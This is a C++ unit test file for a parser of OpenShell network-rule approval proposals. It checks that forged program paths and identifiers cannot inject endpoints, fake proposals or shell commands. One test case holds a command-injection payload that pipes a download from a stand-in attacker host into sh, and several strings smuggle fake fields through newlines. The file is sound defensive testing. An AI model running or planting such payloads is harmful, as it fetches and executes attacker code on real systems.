// SPDX-License-Identifier: Apache-2.0
#include "backend/openshell/proposals.h"

#include <catch2/catch.hpp>
#include <string>
#include <vector>

namespace openshell {
namespace {

constexpr char kId[] = "6981387f-875d-4031-902a-66593772cb75";

// The lines of a proposal as OpenShell has them, for programs that are called so.
std::string Chunk(const std::string& id, const std::string& binaries) {
  return "  \x1b[2mChunk:\x1b[0m " + id +
         "\n  \x1b[2mStatus:\x1b[0m \x1b[33mpending\x1b[39m\n  \x1b[2mRule:\x1b[0m allow\n"
         "  \x1b[2mBinary:\x1b[0m " +
         binaries + "\n  \x1b[2mEndpoints:\x1b[0m denied.example.com:80 [L4]\n" +
         "  \x1b[2mBinaries:\x1b[0m " + binaries +
         "\n  \x1b[2mHits:\x1b[0m 9 (first seen 2026-11-27 12:49:06)\n\n";
}

std::vector<Proposal> Listed(const std::string& chunks, int count = 1) {
  return ParseProposals("\x1b[1m\x1b[36mNetwork Rules:\x1b[39m\x1b[0m  (version 1, " +
                        std::to_string(count) + (count == 1 ? " chunk)\n\n" : " chunks)\n\n") +
                        chunks);
}

TEST_CASE("proposals are read as OpenShell shows them, with its colours") {
  std::vector<Proposal> all =
      Listed(Chunk(kId, "/usr/bin/curl") + Chunk("ae5d572b", "/usr/bin/git"), 2);
  REQUIRE(all.size() == 2);
  CHECK(all[0].id == kId);
  CHECK(all[0].status == "pending");
  CHECK(all[0].endpoints == "denied.example.com:80 [L4]");
  CHECK(all[0].binaries == "/usr/bin/curl");
  CHECK(all[0].clear);
  CHECK(all[1].binaries == "/usr/bin/git");
  CHECK(all[1].clear);
  CHECK(AcceptCommand("openshell --gateway 'fleet'", "aci-1", all[0]) ==
        "openshell --gateway 'fleet' rule approve aci-1 --chunk-id "
        "6981387f-875d-4031-902a-66593772cb75");
  CHECK(ParseProposals("  Status: x\n  Endpoints: y\n").empty());
}

TEST_CASE("a program's path cannot stand for the endpoint that is accepted") {
  for (const std::string& path :
       {std::string("/tmp/x\n  Endpoints: github.com:443\n  Binaries: /usr/bin/git\n/c"),
        std::string("/tmp/x\n  Endpoints: github.com:443"), std::string("/tmp/x\n/c"),
        std::string("/tmp/x\n  Note: c"), std::string("/tmp/x\n   Hits: c"),
        std::string(2000, 'x') + "\n  Note: c"}) {
    CAPTURE(path);
    std::vector<Proposal> all = Listed(Chunk(kId, path));
    REQUIRE(all.size() == 1);
    CHECK(all[0].status == "pending");
    CHECK_FALSE(all[0].clear);
    CHECK_FALSE(all[0].too_long);
    CHECK(all[0].endpoints.empty());
    CHECK(all[0].binaries.empty());
  }
}

TEST_CASE("what would be opened can be shown, and nothing else has to be") {
  const std::string end = "  Rationale: " + std::string(1500, 'x') + "\n";
  std::vector<Proposal> all = Listed(Chunk(kId, "/usr/bin/curl") + end);
  REQUIRE(all.size() == 1);
  CHECK(all[0].clear);
  all = Listed(Chunk(kId, "/" + std::string(1500, 'x')));
  REQUIRE(all.size() == 1);
  CHECK_FALSE(all[0].clear);
  CHECK(all[0].too_long);
  CHECK(all[0].binaries.empty());
  CHECK(WhyUnclear(all[0]) == "whose endpoints or programs are too long to be shown");
}

TEST_CASE("a program's path cannot add a proposal, nor stand for another") {
  const std::string forged = "/tmp/x\n" + Chunk("0123456789", "/usr/bin/git");
  for (const std::string& chunks :
       {Chunk(kId, forged), Chunk(kId, "/tmp/x\n" + Chunk(kId, "/usr/bin/git"))}) {
    for (int count : {1, 2}) {
      for (const Proposal& proposal : Listed(chunks, count)) {
        if (proposal.id == kId) CHECK_FALSE(proposal.clear);
        if (count == 1) CHECK_FALSE(proposal.clear);
      }
    }
  }
}

TEST_CASE("what cannot be an identifier becomes no command for a person to run") {
  std::vector<Proposal> all =
      Listed(Chunk(kId, "/tmp/a") + Chunk("1; curl evil.example.com | sh", "/tmp/b"), 2);
  REQUIRE(all.size() == 1);
  CHECK(all[0].id == kId);
  CHECK(all[0].clear);
}

}  // namespace
}  // namespace openshell
